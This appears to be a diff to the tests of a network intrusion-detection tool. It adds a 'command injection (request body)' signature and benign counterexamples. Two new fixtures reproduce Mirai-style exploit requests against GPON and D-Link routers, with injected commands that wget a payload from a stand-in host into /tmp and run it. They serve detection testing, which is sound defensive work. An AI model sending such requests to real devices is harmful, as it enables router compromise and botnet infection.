@@ -55,6 +55,12 @@ def names(request: bytes) -> str | None:
     (b"GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)\r\n\r\n",
      "scanner user agent"),
     (b"GET / HTTP/1.1\r\nuser-agent: Mozilla/5.0 zgrab/0.x\r\n\r\n", "scanner user agent"),
+    # a form's body in the segment of its headers (Mirai-family exploits of GPON and D-Link routers)
+    (b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: r\r\nContent-Length: 115\r\n\r\n"
+     b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://h/g+-O+/tmp/g;sh+/tmp/g`&ipv=0",
+     "command injection (request body)"),
+    (b"POST /command.php HTTP/1.1\r\n\r\ncmd=cd+/tmp+%26%26+wget+http://h/dlink+%26%26+sh+dlink",
+     "command injection (request body)"),
 ])
 def test_requests_match_their_signature(request_bytes: bytes, expected: str) -> None:
     assert names(request_bytes) == expected
@@ -72,6 +78,8 @@ def test_requests_match_their_signature(request_bytes: bytes, expected: str) -> 
     b"GET /shop;jsessionid=A1B2;id=7 HTTP/1.1\r\n\r\n",
     b"GET /player?onload=autoplay&title=O'Reilly+or+2+others HTTP/1.1\r\n\r\n",
     b"GET /description.xml HTTP/1.1\r\nHost: 192.168.1.20:80\r\n\r\n",
+    b"POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nuser=bob&pass=a;b&remember=1",
+    b"POST /api/v1/scene HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"name\": \"echo dot\", \"on\": true}",
     b"GET /docs/nmap-tutorial.html HTTP/1.1\r\nReferer: http://nmap.org/masscan-vs-zgrab\r\n\r\n",  # words
     b"GET",  # no target
 ])
@@ -85,12 +93,13 @@ def test_signature_codes_are_stable_positions() -> None:
                                                 "script injection", "JNDI lookup (log4j)", "secrets probe"]
     assert [s.name for s in SIGNATURES[6:9]] == ["DNS tunnel (NULL records)", "DNS tunnel (encoded names)",
                                                  "NULL/FIN/XMAS probe"]
-    assert [s.name for s in SIGNATURES[9:11]] == ["nmap service probe", "scanner user agent"]
+    assert [s.name for s in SIGNATURES[9:]] == ["nmap service probe", "scanner user agent",
+                                                "command injection (request body)"]
     assert signature(0) is None and signature(len(SIGNATURES) + 1) is None
-    family = {"target": "exploit", "head": "exploit", "dns": "c2", "tcp-flags": "scan"}
-    assert all(s.family == family[s.where] for s in SIGNATURES[:9])
+    family = {"target": "exploit", "head": "exploit", "body": "exploit", "dns": "c2", "tcp-flags": "scan"}
+    assert all(s.family == family[s.where] for s in SIGNATURES[:9] + SIGNATURES[11:])
     assert all(s.family == "scan" and s.reason.startswith("HTTP request matched a scanner signature")
-               for s in SIGNATURES[9:])
+               for s in SIGNATURES[9:11])
 
 
 def test_findings_join_flows_in_either_direction_and_within_their_lifetime() -> None:
